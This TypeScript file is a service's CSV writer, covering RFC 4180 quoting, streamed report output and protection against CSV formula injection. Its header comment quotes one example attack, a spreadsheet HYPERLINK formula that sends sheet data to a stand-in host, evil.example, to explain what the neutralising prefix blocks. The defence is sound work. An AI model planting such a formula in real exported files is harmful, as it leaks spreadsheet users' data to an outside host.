/**
 * The one CSV writer of the service (API answers and the import's --report file), on
 * `csv-stringify`, the sibling of the `csv-parse` that reads imports.
 *
 * RFC 4180 with CRLF line ends: a cell is quoted when it holds a separator, a quote, a CR or an
 * LF (alone or as a pair), and every line, the last one too, ends with CRLF.
 *
 * Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
 * `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?leak="&A2,...)` sends the sheet's
 * data away when clicked), and tab, CR, LF or NUL before one of those can get it past a filter.
 * Such a text cell gets a leading `'`, which spreadsheets take as "this is text" and do not
 * show. Only text: a number is written as the number it is, so `-12.5` stays a negative number
 * and the figures stay numbers; a text that merely looks like a number (`-12`) is still text
 * and is neutralised like any other. The library's own `escape_formulas` is not used: it leaves
 * LF and NUL alone, so a cast does it, before the library quotes.
 */
import { stringify, type Options } from 'csv-stringify/sync'

const FORMULA_START = /^[=+\-@\t\r\n\0]/

const neutralised = (text: string): string => (FORMULA_START.test(text) ? `'${text}` : text)
const asText = (value: unknown): string => neutralised(String(value))

/** A fresh object each time: the library writes its defaults into the options it is given. */
const options = (more: Options = {}): Options => ({
  record_delimiter: '\r\n',
  // With a record delimiter given, the library would quote only a whole CRLF; a lone CR or LF
  // must be quoted too.
  quote_record_delimiter: true,
  // Numbers and bigints keep the library's `'' + value`; anything else that is not a string
  // is written as String() writes it (`true`, not the library's `1`), then neutralised as text.
  cast: { string: neutralised, boolean: asText, date: asText, object: asText },
  ...more,
})

/** One cell, without a line end. */
export function csvCell(value: unknown): string {
  return stringify([[value]], options({ eof: false }))
}

/** Flattens nested objects into dotted columns: {provisional: {completed}} -> provisional.completed. */
function flatten(row: Record<string, unknown>, prefix = '', out: Record<string, unknown> = {}): Record<string, unknown> {
  for (const [key, value] of Object.entries(row)) {
    const name = prefix ? `${prefix}.${key}` : key
    if (value !== null && typeof value === 'object' && !Array.isArray(value)) flatten(value as Record<string, unknown>, name, out)
    else out[name] = value
  }
  return out
}

/**
 * A whole CSV text: the header (the given columns, or every flattened key in order of first
 * appearance), then one line per row. The header goes through the same cells as the data.
 */
export function toCsv(rows: Array<Record<string, unknown>>, columns?: string[]): string {
  const flat = rows.map((row) => flatten(row))
  const header = columns ?? [...new Set(flat.flatMap((row) => Object.keys(row)))]
  return stringify([header, ...flat.map((row) => header.map((column) => row[column]))], options())
}

/** Rows stringified per call of the library: its per-call set-up is paid once per batch, not per row. */
const BATCH = 64

/**
 * A CSV written as its rows come (the import report): the header, then one line per record,
 * each cell `record[column]`. Yields text in pieces of at least `flushAt` characters (the last
 * may be shorter), so the reader is not handed one tiny chunk per line; holds no more than that
 * and one batch of rows at a time.
 */
export async function* csvLines<R extends object>(
  records: AsyncIterable<R> | Iterable<R>,
  columns: ReadonlyArray<keyof R & string>,
  flushAt = 16 * 1024,
): AsyncGenerator<string> {
  let buffer = stringify([[...columns]], options())
  let batch: unknown[][] = []
  for await (const record of records) {
    batch.push(columns.map((column) => record[column]))
    if (batch.length < BATCH) continue
    buffer += stringify(batch, options())
    batch = []
    if (buffer.length >= flushAt) {
      yield buffer
      buffer = ''
    }
  }
  buffer += stringify(batch, options())
  if (buffer !== '') yield buffer
}

/** `?format=csv` or `Accept: text/csv` asks for CSV. */
export function wantsCsv(format: string | undefined, accept: string | undefined): boolean {
  if (format !== undefined) return format === 'csv'
  return accept !== undefined && /\btext\/csv\b/.test(accept)
}
